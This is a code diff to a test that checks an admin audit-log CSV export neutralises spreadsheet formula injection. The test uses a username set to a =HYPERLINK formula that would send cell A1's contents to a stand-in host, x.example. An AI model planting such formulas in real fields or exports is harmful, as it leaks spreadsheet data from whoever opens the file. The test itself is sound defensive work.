@@ -270,12 +270,15 @@ test('the export streams in rounds: three rows at a time gives the same file as 
 });
 
 test('CSV: text that a spreadsheet would run as a formula is neutralised', async () => {
+  // The username is whatever was typed at sign-in (here an account named so, of A's village, so the
+  // export can be narrowed to it under the suite's small cap).
   const evil = `=HYPERLINK("http://x.example/"&A1)`;
-  expect((await h.client().post('/auth/login', { username: evil, password: TEST_PASSWORD })).status).toBe(401);
-  const r = await download(adminA, `/admin/audit.csv?action=auth.login&success=false&from=${shanghaiDay(0)}`);
+  const u = await createStaff(h.ds, { role: 'village_caseworker', orgUnitCode: a.villageA1.code, username: evil });
+  expect((await h.client().post('/auth/login', { username: evil, password: 'Wrong#Pass1' })).status).toBe(401);
+  const r = await download(adminA, `/admin/audit.csv?actorId=${u.id}`);
   expect(r.status).toBe(200);
-  const row = parseCsv(r.bytes.toString('utf8').slice(1)).find((x) => x[2].includes('HYPERLINK'));
-  expect(row?.[2]).toBe(`'${evil}`);
+  const rows = parseCsv(r.bytes.toString('utf8').slice(1)).slice(1);
+  expect(rows.map((x) => x[2])).toEqual([`'${evil}`]);
 });
 
 test('an export larger than the cap is refused with a reason (422) and the refusal is audited', async () => {
